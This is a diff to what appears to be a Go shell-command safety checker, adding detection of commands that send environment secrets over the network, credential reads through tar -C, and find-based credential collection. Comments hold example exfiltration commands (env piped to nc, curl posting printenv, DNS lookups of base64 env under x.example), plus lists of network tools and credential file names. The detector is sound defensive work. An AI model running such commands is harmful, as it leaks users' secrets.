@@ -18,6 +18,7 @@ const (
 	ruleHomeDestroy       = "paths:home-destroy"
 	ruleCredentialRead    = "paths:credential-read" //nolint:gosec // a rule name, not a credential
 	ruleShellSocket       = "egress:shell-socket"
+	ruleEnvSend           = "egress:env-send"
 )
 
 // credentialDirs are home-relative directories that hold credentials:
@@ -121,9 +122,41 @@ var credentialReaders = []string{
 	"wget", "http", "xh", "aws", "gsutil", "gcloud", "az", "rclone", "mc", "s3cmd", "b2", "bat", "batcat", "column", "fold", "rev", "tr", "perl", "install", "gpg", "age", "split",
 }
 
+// netSenders are the programs that send what they are given (on stdin, in
+// their arguments, in a host name they look up) over the network.
+var netSenders = []string{
+	"curl", "wget", "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "http", "https", "xh",
+	"ssh", "openssl", "dig", "nslookup", "host", "drill", "ping", "fetch", "aria2c", "sendmail", "mail", "mailx",
+}
+
+// matchEnvSend judges a network program sending the environment's values
+// (env | nc HOST PORT, curl -d "$(printenv)", dig $(env | base64).x.example):
+// the worker's and the job's secrets leave the machine.
+func matchEnvSend(c *command, h *hits) {
+	if c.stdin.taint&taintSecret != 0 {
+		h.add(ruleEnvSend, c.name+" sends the environment it reads on stdin")
+		return
+	}
+	for _, a := range c.args {
+		if a.taint&taintSecret != 0 {
+			h.add(ruleEnvSend, c.name+" sends the environment in "+quoteDetail(a.src))
+			return
+		}
+		for _, p := range readPaths(a)[1:] { // @FILE, file://FILE: a file the script wrote the environment to
+			if f, ok := c.files[fileKey(p.val)]; ok && f.s.taint&taintSecret != 0 {
+				h.add(ruleEnvSend, c.name+" sends the environment written to "+quoteDetail(p.val))
+				return
+			}
+		}
+	}
+}
+
 // matchCredentialRead judges a reader given a credential to read.
 func matchCredentialRead(c *command, h *hits) {
 	args := c.args
+	if c.name == "tar" {
+		args = tarOperands(args)
+	}
 	if c.name == "cp" || c.name == "install" {
 		if ops, _ := operands(args, optSpec{short: "tSm", long: []string{"target-directory", "suffix", "mode"}}); len(ops) > 1 {
 			args = ops[:len(ops)-1] // the sources; the destination is a write
@@ -140,6 +173,56 @@ func matchCredentialRead(c *command, h *hits) {
 					return
 				}
 			}
+		}
+	}
+}
+
+// tarOperands returns tar's arguments with each operand after -C DIR
+// (--directory DIR) joined to DIR: tar czf x.tgz -C ~ .ssh reads ~/.ssh.
+func tarOperands(args []arg) []arg {
+	out := make([]arg, 0, len(args))
+	dir := ""
+	for i := 0; i < len(args); i++ {
+		a := args[i]
+		switch {
+		case !a.lit:
+		case (a.val == "-C" || a.val == "--directory") && i+1 < len(args):
+			dir = ""
+			if args[i+1].lit {
+				dir = args[i+1].val
+			}
+			i++
+			continue
+		case strings.HasPrefix(a.val, "--directory="):
+			dir = strings.TrimPrefix(a.val, "--directory=")
+			continue
+		case dir != "" && !strings.HasPrefix(a.val, "-") && !isAbsolute(a.val) && !strings.HasPrefix(a.val, "~"):
+			a.val = joinPath(dir, a.val)
+		}
+		out = append(out, a)
+	}
+	return out
+}
+
+// credentialNames are file names find looks for to collect credentials.
+var credentialNames = []string{"id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "id_*", ".netrc", ".pgpass", ".git-credentials",
+	"credentials", ".aws", ".ssh", "*.ppk", ".vault-token", "shadow", "kubeconfig", ".kube"}
+
+// matchFindCredentials judges find looking up credentials by name and
+// acting on each it finds (find / -name id_rsa -exec cp {} /tmp/x \;).
+func matchFindCredentials(c *command, h *hits) {
+	_, expr := findParts(c.args)
+	names, _ := findNames(expr)
+	acts := slices.ContainsFunc(expr, func(e arg) bool {
+		return e.lit && (e.val == "-exec" || e.val == "-execdir" || e.val == "-ok" || e.val == "-okdir" || e.val == "-fprint" || e.val == "-fprint0" || e.val == "-fls")
+	})
+	if !acts {
+		return
+	}
+	for _, n := range names {
+		if slices.Contains(credentialNames, n) {
+			h.add(ruleCredentialRead, "find -name "+quoteDetail(n)+" acts on each credential it finds")
+			return
 		}
 	}
 }
